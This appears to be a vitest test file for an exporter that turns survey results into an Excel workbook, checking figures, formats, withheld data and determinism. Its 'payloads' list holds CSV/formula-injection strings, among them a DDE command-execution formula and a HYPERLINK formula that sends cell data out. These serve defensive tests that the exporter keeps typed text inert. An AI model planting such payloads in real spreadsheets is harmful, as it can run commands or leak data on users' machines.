import { unzipSync } from 'fflate';
import { readXlsx } from 'hucre/xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import { hashOf } from '../../functions/rules/canonical.ts';
import { outcomeOf } from '../../functions/rules/release/outcome.ts';
import { statistics } from '../../functions/rules/release/releaseWords.ts';
import { releaseWorkbook } from '../../functions/rules/workbook/releaseWorkbook.ts';
import type { Estimate, ReleaseDocument } from '../../schemas/release.ts';
import { languages } from '../../schemas/text.ts';
import { aBasis } from '../release/support/basis.ts';

type Grid = readonly (readonly unknown[])[];

const documentOf = (basis = aBasis({ residents: 45 })): ReleaseDocument => ({
  basis,
  outcome: outcomeOf(basis),
});

const gridsOf = async (bytes: Uint8Array): Promise<Map<string, Grid>> => {
  const { sheets } = await readXlsx(bytes);
  return new Map(sheets.map(({ name, rows }) => [name, rows]));
};

const partsOf = (bytes: Uint8Array): [string, string][] =>
  Object.entries(unzipSync(bytes)).map(([name, part]) => [name, new TextDecoder().decode(part)]);

/** Where the columns of a header are, by their words. */
const columnOf = (grid: Grid, header: string): number => {
  const place = grid[0]?.indexOf(header) ?? -1;
  if (place < 0) throw new Error(`no column ${header}`);
  return place;
};

const headers: Record<(typeof statistics)[number], string> = {
  satisfied: 'Satisfaction rate',
  mean: 'Mean score',
  topTwo: 'Two best options (CSAT)',
  topBox: 'Best option',
  bottomBox: 'Worst option',
  friendsFamily: 'Positive of all answers (FFT)',
  nps: 'Net Promoter Score',
};

let document: ReleaseDocument;
let bytes: Uint8Array;
let grids: Map<string, Grid>;
beforeAll(async () => {
  document = documentOf();
  bytes = await releaseWorkbook(document, 'en');
  grids = await gridsOf(bytes);
});

const grid = (name: string): Grid => {
  const found = grids.get(name);
  if (!found) throw new Error(`no sheet ${name}`);
  return found;
};

const shown = (rows: Grid, row: readonly unknown[], header: string): unknown =>
  row[columnOf(rows, header)] ?? undefined;

const threeOf = (rows: Grid, row: readonly unknown[], header: string): Estimate | undefined => {
  const value = shown(rows, row, header);
  return value === undefined
    ? undefined
    : ({
        value,
        low: shown(rows, row, `${header}, low`),
        high: shown(rows, row, `${header}, high`),
      } as Estimate);
};

describe('every figure of the document is in the workbook, unrounded', () => {
  it('by node, question, lane and period', () => {
    const { basis, outcome } = document;
    const nodes = new Map(basis.nodes.map((node) => [node.id, node]));
    const lines = new Map(basis.lines.map((line) => [line.id, line]));
    const surveyTitles = new Map(basis.surveys.map(({ id, title }) => [id, title.en]));
    const laneOf = { visit_code: 'code from a visit', proof_of_work: 'page, with proof of work' } as const;
    const extraLanes = {
      no_script: 'page, without script',
      signed_in: 'signed in',
      ballot: 'ballot',
    } as const;
    const lanes: Record<string, string> = { ...laneOf, ...extraLanes };
    const rowKey = (...parts: (string | undefined)[]): string => parts.join('|');
    const indexed = (name: string, columns: readonly string[]): Map<string, readonly unknown[]> => {
      const rows = grid(name);
      return new Map(
        rows
          .slice(1)
          .map((row) => [rowKey(...columns.map((column) => String(shown(rows, row, column)))), row]),
      );
    };
    const by = {
      all: ['Questions', indexed('Questions', ['Survey', 'Question'])],
      region: ['Regions', indexed('Regions', ['About', 'Survey', 'Question'])],
      group: ['Group figures', indexed('Group figures', ['About', 'Survey', 'Question'])],
      unit: ['Unit figures', indexed('Unit figures', ['About', 'Survey', 'Question'])],
      pledges: ['Pledges', indexed('Pledges', ['Unit', 'Survey', 'Pledge'])],
      lane: ['Lanes', indexed('Lanes', ['About', 'Survey', 'Question', 'Lane'])],
      period: ['Trend', indexed('Trend', ['About', 'Survey', 'Question', 'Period'])],
    } as const;
    let compared = 0;
    for (const figure of outcome.figures) {
      const node = nodes.get(figure.nodeId);
      const line = lines.get(figure.lineId);
      if (!node || !line) throw new Error('a figure of nothing');
      const question =
        line.type === 'responses'
          ? 'Responses'
          : line.rowText
            ? `${line.text?.en}${line.text?.en?.endsWith('?') ? ' ' : ': '}${line.rowText.en}`
            : String(line.text?.en);
      const about = [node.name.en, surveyTitles.get(line.surveyId), question];
      const days = figure.period?.split('/') ?? [];
      const period = days[0] === days[1] ? days[0] : days.join(' – ');
      const isPledge = line.type === 'pledges' && figure.lane === undefined && figure.period === undefined;
      const [name, rows] = figure.lane
        ? by.lane
        : figure.period
          ? by.period
          : isPledge && node.kind === 'unit'
            ? by.pledges
            : by[node.kind];
      const key = figure.lane
        ? rowKey(...about, lanes[figure.lane])
        : figure.period
          ? rowKey(...about, period)
          : name === 'Questions'
            ? rowKey(...about.slice(1))
            : rowKey(...about);
      const row = rows.get(key);
      if (!row) throw new Error(`no row ${key} in ${name}`);
      const sheet = grid(name);
      expect(shown(sheet, row, 'Valid'), key).toBe(figure.valid);
      expect(shown(sheet, row, "Don't know"), key).toBe(figure.dontKnow);
      for (const statistic of statistics) {
        const estimate = figure[statistic];
        const header = headers[statistic];
        if (estimate) {
          expect(threeOf(sheet, row, header), `${key} ${header}`).toEqual(estimate);
          compared += 1;
        } else if (sheet[0]?.includes(header)) {
          expect(shown(sheet, row, header), `${key} ${header}`).toBeUndefined();
        }
      }
      if (figure.turnout !== undefined)
        expect(shown(sheet, row, 'Responses per population'), key).toBe(figure.turnout);
    }
    expect(compared).toBeGreaterThan(2_000);
  });

  it('by unit: indices, bands, gaps and changes', () => {
    const { outcome } = document;
    const rows = grid('By group');
    expect(rows.length - 1).toBe(outcome.indices.length);
    const placed = new Map(
      outcome.rankings.flatMap(({ surveyId, of, units }) =>
        units.map((one) => [`${surveyId}|${one.unitId}`, { of, ...one }]),
      ),
    );
    const titles: Record<string, string | null> = {
      Composite: null,
      ...Object.fromEntries(document.basis.surveys.map(({ id, title }) => [title.en ?? id, id])),
    };
    for (const row of rows.slice(1)) {
      const surveyId = titles[String(shown(rows, row, 'Index'))];
      const unitId = String(shown(rows, row, 'Unit'));
      const index = outcome.indices.find((one) => one.surveyId === surveyId && one.unitId === unitId);
      expect(threeOf(rows, row, 'Index value')).toEqual(index?.estimate);
      const place = placed.get(`${surveyId}|${unitId}`);
      expect(shown(rows, row, 'Best place')).toBe(place?.best);
      expect(shown(rows, row, 'Worst place')).toBe(place?.worst);
      expect(shown(rows, row, 'Ranked units')).toBe(place?.of);
    }
    const gaps = grid('Self-evaluation');
    expect(gaps.slice(1).map((row) => shown(gaps, row, 'Gap (self − others)'))).toEqual(
      outcome.gaps.map(({ gap }) => gap),
    );
    const changes = grid('Changes');
    expect(changes.slice(1).map((row) => threeOf(changes, row, 'Change'))).toEqual(
      outcome.changes.map(({ difference }) => difference),
    );
  });

  it('with what is withheld, each with its reason, and without any other number for it', () => {
    const rows = grid('Withheld');
    expect(rows.length - 1).toBe(document.basis.withheld.length);
    expect(document.basis.withheld.length).toBeGreaterThan(10);
    for (const row of rows.slice(1)) expect(String(shown(rows, row, 'Reason'))).toMatch(/fewer than 10/);
  });
});

/** The number formats that cells of a sheet are shown in, by their place. */
const formatsOf = async (made: Uint8Array, name: string): Promise<Map<string, string | undefined>> => {
  const { sheets } = await readXlsx(made, { readStyles: true });
  const found = sheets.find((sheet) => sheet.name === name);
  return new Map([...(found?.cells ?? [])].map(([place, { style }]) => [place, style?.numFmt]));
};

describe('numbers of the workbook as they are shown', () => {
  it('are percent for changes of shares, and points for those of means and NPS', async () => {
    const { changes } = document.outcome;
    expect(new Set(changes.map(({ measure }) => measure))).toContain('satisfied');
    expect(new Set(changes.map(({ measure }) => measure))).toContain('mean');
    const formats = await formatsOf(bytes, 'Changes');
    const rows = grid('Changes');
    const columns = ['Before', 'Now', 'Change'].flatMap((word) =>
      [word, `${word}, low`, `${word}, high`].map((header) => columnOf(rows, header)),
    );
    for (const [row, { measure }] of changes.entries())
      for (const column of columns)
        expect(formats.get(`${row + 1},${column}`), `${measure} ${column}`).toBe(
          measure === 'mean' || measure === 'nps' ? '0.0' : '0.0%',
        );
  });

  it('say of counts by lane or by period that they are, not the whole line, withheld', async () => {
    const { basis } = document;
    const [one] = basis.withheld.filter(({ lane, period }) => lane === undefined && period === undefined);
    if (!one) throw new Error('nothing withheld');
    const withheld = [one, { ...one, split: 'lanes' as const }, { ...one, split: 'periods' as const }];
    const made = await releaseWorkbook({ ...document, basis: { ...basis, withheld } }, 'en');
    const rows = (await gridsOf(made)).get('Withheld') ?? [];
    expect(
      rows.slice(1).map((row) => [shown(rows, row, 'Lane') || null, shown(rows, row, 'Period') || null]),
    ).toEqual([
      [null, null],
      ['figures by lane', null],
      [null, 'figures by period'],
    ]);
  });
});

/** What a spreadsheet would run, or would take for something else. */
const payloads = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org/?"&A1,"here")',
  '＝1+1',
  '<f>1+1</f>',
  ']]>&lt;"\'',
  '_x003D_1+1',
  'a\u0000b\ud800',
];

/** The document with a payload in every text that somebody typed. */
const infected = (payload: string): ReleaseDocument => {
  const basis = aBasis({ units: 8, residents: 30 });
  const text = { 'zh-CN': payload };
  return documentOf({
    ...basis,
    campaign: {
      ...basis.campaign,
      name: text,
      notice: text,
      groups: basis.campaign.groups.map((group) => ({ ...group, name: text })),
    },
    release: { ...basis.release, correction: { releaseId: 'release-0', reason: payload } },
    surveys: basis.surveys.map((survey) => ({ ...survey, title: text })),
    nodes: basis.nodes.map((node) => ({
      ...node,
      name: text,
      ...(node.region && { region: node.region.map(() => payload) }),
    })),
    lines: basis.lines.map((line) => ({
      ...line,
      text,
      ...(line.rowText && { rowText: text }),
      options: line.options.map((option) => ({ ...option, label: text })),
    })),
    comments: basis.comments.map((comment) => ({ ...comment, text: payload })),
  });
};

describe('words that somebody typed', () => {
  it.each(payloads)(
    'stay text: %j',
    async (payload) => {
      const made = await releaseWorkbook(infected(payload), 'zh-CN');
      for (const [name, xml] of partsOf(made)) {
        if (name.startsWith('xl/worksheets/')) expect(xml, name).not.toMatch(/<f[\s>/]/);
        if (name.endsWith('.rels')) expect(xml, name).not.toContain('TargetMode="External"');
        if (name.startsWith('xl/charts/')) {
          const references = [...xml.matchAll(/<c:f>([^<]*)<\/c:f>/g)].map(([, reference = '']) => reference);
          for (const reference of references)
            expect(reference).toMatch(/^'?[\p{L}]+'?!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+$/u);
        }
      }
      const cells = [...(await gridsOf(made)).values()].flat(2);
      const kept = payload.replace(/\r/g, '\n').replaceAll('\0', '').toWellFormed();
      expect(cells.filter((cell) => cell === kept).length).toBeGreaterThan(20);
    },
    60_000,
  );
});

describe('the workbook', () => {
  it.each(languages)('is the same, byte by byte, each time, in %s', async (language) => {
    const again = structuredClone(document);
    expect(await releaseWorkbook(again, language)).toEqual(await releaseWorkbook(document, language));
  });

  it('names the release by the hash of its document', () => {
    const cells = grid('Cover').flat();
    expect(cells).toContain(hashOf(document));
    expect(cells).toContain(document.basis.receipts.root);
  });

  it('has charts, data bars, frozen headers and a print set-up on every sheet', () => {
    const parts = partsOf(bytes);
    const charts = parts.filter(([name]) => /^xl\/charts\/chart\d+\.xml$/.test(name));
    expect(charts.length).toBeGreaterThanOrEqual(2);
    expect(charts.some(([, xml]) => xml.includes('<c:lineChart>'))).toBe(true);
    const sheets = parts.filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toHaveLength(18);
    for (const [name, xml] of sheets) {
      expect(xml, name).toContain('orientation="landscape"');
      expect(xml, name).toContain('fitToWidth="1"');
      expect(xml, name).toContain('&amp;P / &amp;N');
    }
    expect(sheets.filter(([, xml]) => xml.includes('state="frozen"'))).toHaveLength(17);
    expect(sheets.filter(([, xml]) => xml.includes('type="dataBar"')).length).toBeGreaterThan(5);
  });

  it('writes Chinese names on its Chinese sheets', async () => {
    const names = [...(await gridsOf(await releaseWorkbook(document, 'zh-CN'))).keys()];
    expect(names).toEqual(
      expect.arrayContaining([
        '封面与说明',
        '分类汇总',
        '单位',
        '题目',
        '区域',
        '评议主体',
        '趋势',
        '自评对照',
        '承诺',
        '意见',
        '未公布',
        '方法与定义',
      ]),
    );
  });
});
